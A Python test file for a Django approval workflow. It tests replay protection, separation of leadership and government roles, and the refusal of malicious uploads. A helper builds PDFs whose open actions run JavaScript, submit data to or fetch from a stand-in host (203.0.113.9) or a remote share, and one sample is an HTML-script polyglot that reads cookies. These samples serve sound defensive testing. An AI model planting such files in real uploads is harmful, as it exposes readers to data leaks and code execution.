"""Attacks on the government's send-back and approval with the signed document, and on the new upload fields
(the signed approval document, an objection's evidence): replays, an approval with no standing decision, one
account on both sides of the decision, and files that act when opened."""

from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from chieftech.accounts.domain.users import check_roles
from chieftech.accounts.roles import Role, role_conflicts
from chieftech.core.errors import DomainError
from chieftech.publicity.domain.approval import government_approve, government_send_back, leadership_decide
from chieftech.publicity.models import (
    ApprovalDocument,
    GovernmentApproval,
    GovernmentSendBack,
    LeadershipDecision,
    Objection,
    ObjectionEvidence,
)
from tests.certificates.factories import SIGNED, make_approval_stage_round
from tests.factories import grant, huancui
from tests.publicity.test_notice import file_objection, published_notice


@pytest.fixture
def staged(olivia, alice, bob):
    return make_approval_stage_round(olivia, [alice, bob], n=3)


def url(round_) -> str:
    return reverse("publicity:approval", args=[round_.pk])


def decide(leader, round_) -> LeadershipDecision:
    return leadership_decide(
        actor=leader,
        round_=round_,
        outcome=LeadershipDecision.Outcome.APPROVE,
        meeting_date=timezone.localdate(),
        minutes_reference="2026年第4次会议纪要",
    )


def approval_post(content: bytes = SIGNED["signed_content"], name: str = "批准文件.pdf") -> dict:
    return {
        "action": "approve",
        "document_number": f"威环政字〔{timezone.localdate().year}〕12号",
        "approved_on": timezone.localdate().isoformat(),
        "signed_document": SimpleUploadedFile(name, content, "application/pdf"),
    }


def _pdf_dict(action: dict) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject(k): _pdf_dict(v)
            if isinstance(v, dict)
            else (NameObject(v) if v.startswith("/") else TextStringObject(v))
            for k, v in action.items()
        }
    )


def pdf_opening_with(action: dict | None) -> bytes:
    """A valid one-page PDF whose catalogue runs `action` as soon as a reader opens it (None: it opens at its
    first page, fitted to the window, as many scanners write it)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = (
        ArrayObject([page.indirect_reference, NameObject("/Fit")]) if action is None else _pdf_dict(action)
    )
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


OPEN_ACTIONS = {
    "javascript": {"/S": "/JavaScript", "/JS": "app.alert(1)"},
    "uri": {"/S": "/URI", "/URI": "http://203.0.113.9/opened"},
    "submit_form": {"/S": "/SubmitForm", "/F": "http://203.0.113.9/collect"},
    "remote_go_to": {"/S": "/GoToR", "/F": "\\\\203.0.113.9\\share\\x.pdf", "/D": "a"},
    "import_data": {"/S": "/ImportData", "/F": "http://203.0.113.9/data.fdf"},
    "chained_uri": {"/S": "/GoTo", "/D": "a", "/Next": {"/S": "/URI", "/URI": "http://203.0.113.9/opened"}},
}


# --- Replays and order ----------------------------------------------------------------------------------


def test_the_same_approval_posted_twice_records_one_approval_and_one_document(client, staged, leo, gina):
    round_, _ = staged
    decide(leo, round_)
    client.force_login(gina)
    assert client.post(url(round_), approval_post()).status_code == 302

    replay = client.post(url(round_), approval_post())

    assert replay.status_code == 200
    assert replay.context["approval_form"].non_field_errors() == ["本批次已登记区政府批准，不能重复登记。"]
    assert (GovernmentApproval.objects.count(), ApprovalDocument.objects.count()) == (1, 1)


def test_the_same_send_back_posted_twice_sends_back_once(client, staged, leo, gina):
    round_, _ = staged
    decide(leo, round_)
    client.force_login(gina)
    post = {"action": "send_back", "reason": "请重新审定。"}
    assert client.post(url(round_), post).status_code == 302

    replay = client.post(url(round_), post)

    assert replay.status_code == 200
    assert replay.context["send_back_form"].non_field_errors() == ["领导小组尚未审定同意，没有可退回的名单。"]
    assert GovernmentSendBack.objects.count() == 1


def test_no_approval_after_a_send_back_until_the_leadership_decides_again(client, staged, leo, gina):
    round_, _ = staged
    decide(leo, round_)
    government_send_back(actor=gina, round_=round_, reason="请重新审定。")
    client.force_login(gina)

    response = client.post(url(round_), approval_post())

    assert response.status_code == 200
    assert response.context["approval_form"].non_field_errors() == [
        "领导小组审定同意后，方可登记区政府批准。"
    ]
    assert (GovernmentApproval.objects.count(), ApprovalDocument.objects.count()) == (0, 0)


def test_an_approval_with_no_decision_at_all_is_refused(staged, gina):
    round_, _ = staged
    with pytest.raises(DomainError) as refused:
        government_approve(
            actor=gina,
            round_=round_,
            document_number=f"威环政字〔{timezone.localdate().year}〕12号",
            approved_on=timezone.localdate(),
            **SIGNED,
        )
    assert refused.value.message == "领导小组审定同意后，方可登记区政府批准。"
    assert GovernmentApproval.objects.count() == 0


# --- Separation of duties -------------------------------------------------------------------------------


def test_one_account_may_not_hold_leader_and_government_for_one_authority(sam):
    assert role_conflicts({Role.LEADER, Role.GOVERNMENT}) == [(Role.LEADER, Role.GOVERNMENT)]
    with pytest.raises(DomainError) as refused:
        check_roles(actor=sam, roles={Role.LEADER, Role.GOVERNMENT}, enterprise=None)
    assert refused.value.message == "“区委人才工作领导小组”与“区政府经办人”不能由同一账号兼任（职责分离）。"


def test_a_leader_given_the_government_role_behind_the_rules_still_cannot_approve_their_own_decision(
    client, staged, leo
):
    round_, _ = staged
    grant(leo, Role.GOVERNMENT, authority=huancui())
    decide(leo, round_)
    client.force_login(leo)

    approve = client.post(url(round_), approval_post())
    send_back = client.post(url(round_), {"action": "send_back", "reason": "自己退回自己。"})

    assert approve.context["approval_form"].non_field_errors() == [
        "登记领导小组审定结论的人不能再登记区政府批准，请由另一位区政府经办人办理（职责分离）。"
    ]
    assert send_back.context["send_back_form"].non_field_errors() == [
        "登记领导小组审定结论的人不能再办理区政府退回，请由另一位区政府经办人办理（职责分离）。"
    ]
    assert (GovernmentApproval.objects.count(), GovernmentSendBack.objects.count()) == (0, 0)


# --- The signed approval document -----------------------------------------------------------------------


def test_a_signed_document_that_opens_at_its_first_page_is_accepted(client, staged, leo, gina):
    round_, _ = staged
    decide(leo, round_)
    client.force_login(gina)

    assert client.post(url(round_), approval_post(pdf_opening_with(None))).status_code == 302
    assert ApprovalDocument.objects.get(approval__round=round_).original_name == "批准文件.pdf"


@pytest.mark.parametrize("action", sorted(OPEN_ACTIONS))
def test_a_signed_document_that_acts_when_opened_is_refused_and_nothing_is_saved(
    client, staged, leo, gina, action
):
    round_, _ = staged
    decide(leo, round_)
    client.force_login(gina)

    response = client.post(url(round_), approval_post(pdf_opening_with(OPEN_ACTIONS[action])))

    assert response.status_code == 200
    [error] = response.context["approval_form"].errors["signed_document"]
    assert error.startswith("“批准文件.pdf”含有")
    assert (GovernmentApproval.objects.count(), ApprovalDocument.objects.count()) == (0, 0)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "批准文件.pdf",
            b"%PDF-1.4\n%<html><script>alert(document.cookie)</script>\n" + SIGNED["signed_content"][9:],
            "“批准文件.pdf”含有网页代码，不是有效的证明材料文件。",
        ),
        (
            "批准文件.pdf.html",
            SIGNED["signed_content"],
            "“批准文件.pdf.html”不是PDF文件：批准文件须上传签发件的PDF扫描件。",
        ),
        (
            "批准文件.pdf",
            b"%PDF-1.4\n%%EOF\n",
            "“批准文件.pdf”无法作为PDF文件打开（文件已损坏或内容被伪装），请重新导出后上传。",
        ),
    ],
)
def test_a_polyglot_or_disguised_signed_document_is_refused(
    client, staged, leo, gina, name, content, message
):
    round_, _ = staged
    decide(leo, round_)
    client.force_login(gina)

    response = client.post(url(round_), approval_post(content, name))

    assert response.context["approval_form"].errors == {"signed_document": [message]}
    assert (GovernmentApproval.objects.count(), ApprovalDocument.objects.count()) == (0, 0)


def test_the_signed_document_of_an_unknown_or_unapproved_round_is_not_found(client, staged, leo, gina):
    round_, _ = staged
    client.force_login(gina)
    assert client.get(reverse("publicity:approval_document", args=[round_.pk])).status_code == 404
    assert client.get(f"/publicity/manage/rounds/{2**63}/approval/signed-document/").status_code == 404


# --- An objection's evidence ----------------------------------------------------------------------------


@pytest.mark.parametrize("action", sorted(OPEN_ACTIONS))
def test_objection_evidence_that_acts_when_opened_is_refused_and_nothing_is_saved(olivia, alice, bob, action):
    _, notice, _ = published_notice(olivia, [alice, bob], n=3)
    entry = notice.entries.order_by("order").first()

    with pytest.raises(DomainError) as refused:
        file_objection(notice, entry, files=[("证明.pdf", pdf_opening_with(OPEN_ACTIONS[action]))])

    assert (refused.value.field, refused.value.message.startswith("“证明.pdf”含有")) == ("files", True)
    assert (Objection.objects.count(), ObjectionEvidence.objects.count()) == (0, 0)


def test_the_same_decision_posted_twice_records_one_decision(client, staged, leo):
    round_, _ = staged
    client.force_login(leo)
    post = {
        "action": "decide",
        "outcome": LeadershipDecision.Outcome.APPROVE,
        "meeting_date": timezone.localdate().isoformat(),
        "minutes_reference": "2026年第4次会议纪要",
    }
    assert client.post(url(round_), post).status_code == 302

    replay = client.post(url(round_), post)

    assert replay.status_code == 200
    [error] = replay.context["decision_form"].non_field_errors()
    assert error.startswith("领导小组已于") and error.endswith("审定，不能重复审定。")
    assert LeadershipDecision.objects.filter(round=round_).count() == 1


@pytest.mark.parametrize(
    ("who", "action"),
    [("leo", "approve"), ("leo", "send_back"), ("leo", "publish"), ("gina", "decide"), ("gina", "publish")],
)
def test_one_role_cannot_take_anothers_step(client, staged, leo, gina, request, who, action):
    round_, _ = staged
    if who == "leo":
        decide(leo, round_)
    client.force_login(request.getfixturevalue(who))

    response = client.post(url(round_), {"action": action, "reason": "x", "outcome": "approve"})

    assert response.status_code == 403
    assert (GovernmentApproval.objects.count(), GovernmentSendBack.objects.count()) == (0, 0)
    assert LeadershipDecision.objects.filter(round=round_).count() == (1 if who == "leo" else 0)


def test_an_oversized_signed_document_is_refused_at_its_field_with_its_real_size(client, staged, leo, gina):
    round_, _ = staged
    decide(leo, round_)
    client.force_login(gina)
    content = SIGNED["signed_content"] + b"%" + b" " * (10 * 1024 * 1024 - len(SIGNED["signed_content"]))

    response = client.post(url(round_), approval_post(content))

    assert response.status_code == 200
    assert response.context["approval_form"].errors == {
        "signed_document": ["“批准文件.pdf”的文件大小为 10.01 MB（10,485,761 字节），超过上限 10 MB。"]
    }
    assert (GovernmentApproval.objects.count(), ApprovalDocument.objects.count()) == (0, 0)
